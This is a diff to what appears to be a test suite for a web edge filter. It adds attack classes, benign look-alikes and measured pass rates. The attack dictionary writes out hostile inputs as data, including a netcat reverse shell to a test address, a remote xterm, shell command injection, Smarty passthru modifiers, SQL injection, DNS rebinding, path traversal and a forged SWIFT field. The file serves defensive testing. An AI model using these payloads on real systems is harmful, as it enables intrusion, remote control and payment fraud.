@@ -21,6 +21,31 @@ Attacks that must be refused:
 Measured on b8bad2f (before the changes): every attack passed, every
 look-alike passed.
 
+Then, after the banking, nonprofit, music and surveillance corpora were
+first replayed (at 11de058), the classes they showed:
+- reopened-quote: a value that starts with a command word, closes the
+  application's quote, chains a command and ends by opening a quote
+  after a blank (refused); a command line whose quotes pair (passes);
+- rebind-label: a loopback address in a name's label after a prefix and
+  a dash (refused); a build number after a dash (passes);
+- smarty-modifier: a PHP function that runs commands as a Smarty
+  modifier (refused); formatting modifiers (pass);
+- update-where: an UPDATE's assignment after a phrase, its WHERE and a
+  comment (refused); a sentence with the same words (passes);
+- xterm: an X terminal sent to a remote display after a separator
+  (refused); the word in a sentence (passes);
+- quoted-term, key-chord, verse-ref: a weak command word before a term
+  quoted in a sentence, a Mac key chord, a chapter and verse (pass);
+  the same words as commands (refused);
+- swift-whole: a SWIFT message whole from its basic header block
+  (passes); a tag forged after a payment reference (refused);
+- media-link: steps up to a recording in a sampler's library, or to a
+  PDF in a sentence (pass); a step from another id's folder (refused);
+- app-export: a table an application exported under /var/lib (passes);
+  a container runtime's settings there (refused).
+Measured on 11de058: 7 of those 13 attacks passed, 8 of the 14
+look-alikes were refused.
+
 Each attack is sent as a query value (URL-encoded once, and once more:
 the edge decodes repeatedly) and as a JSON body field; each look-alike
 must pass in the same placements. A probe the edge gets wrong is listed
@@ -37,6 +62,17 @@ ATTACKS = {
     "exim-expansion": ["ops@mail.example ${run{/usr/bin/wget -q 198.51.100.8/x}}",
                        "${readsocket{inet:127.0.0.1:25}{EHLO x\\n}}"],
     "glued-option": ["-F/etc/shadow", "report.csv -T/etc/passwd"],
+    "reopened-quote": ["top 5' ; uname -a ; echo '", 'ps 7" ; id ; echo "'],
+    "rebind-label": ["https://img-127-0-0-1.rebind.example:8443/a"],
+    "smarty-modifier": ["{'uname -a'|passthru}", "{$q|shell_exec}"],
+    "update-where": ["paid in full', status='void' WHERE ref='88'-- "],
+    "xterm": ["x;xterm -display 198.51.100.3:0"],
+    "quoted-term": ["done; alias ls='nc 198.51.100.7 9 -e sh'"],
+    "key-chord": ["x;cmd+/c+whoami"],
+    "verse-ref": ["x & ps -ef"],
+    "swift-whole": ["INV 88\n:59:/GB33BUKB20201555555555\nSOMEONE ELSE LTD"],
+    "media-link": ["3301/../3302/contract.pdf"],
+    "app-export": ["/var/lib/docker/containers/0a1b/config.v2.json"],
 }
 
 BENIGN = {
@@ -45,6 +81,20 @@ BENIGN = {
     "exim-expansion": ["deploy to ${HOME}/apps/{staging,prod}",
                        "Dear ${first_name}, your order ${order.id} shipped"],
     "glued-option": ["cc -I/usr/include/libpng -L/usr/lib -lpng img.c"],
+    "reopened-quote": ["grep -c 'error' app.log; echo 'ok'"],
+    "rebind-label": ["https://build-127.ci.example.org/job/7"],
+    "smarty-modifier": ["{$title|escape:'html'}", "{$body|nl2br}"],
+    "update-where": ["Set status='void' where ref='88' (done twice)"],
+    "xterm": ["the xterm window froze; restarted it"],
+    "quoted-term": ["no match; set 'fr' as fallback language",
+                    "later; alias 'Bobby' added to profile"],
+    "key-chord": ["Undo is Ctrl+Z; Cmd+Z on a Mac, Cmd+Shift+Z to redo"],
+    "verse-ref": ["Readings: Is 40:1-11 & Ps 85:1-2, 8-13 \u2014 Advent 2"],
+    "swift-whole": ["{1:F01ABCDEFGHAXXX1234567890}{2:I202ZYXWVUTSXXXXN}{4:\n:20:REF0001\n"
+                    ":21:REL0002\n:32A:250101EUR100,00\n-}"],
+    "media-link": ["..\\..\\Loops\\Drums\\break 90bpm.wav",
+                   "see ../../handouts/week3.pdf for the rubric"],
+    "app-export": ["/var/lib/ledger/exports/2025/q1_totals.csv.gz"],
 }
 
 KNOWN_MISSES = {}
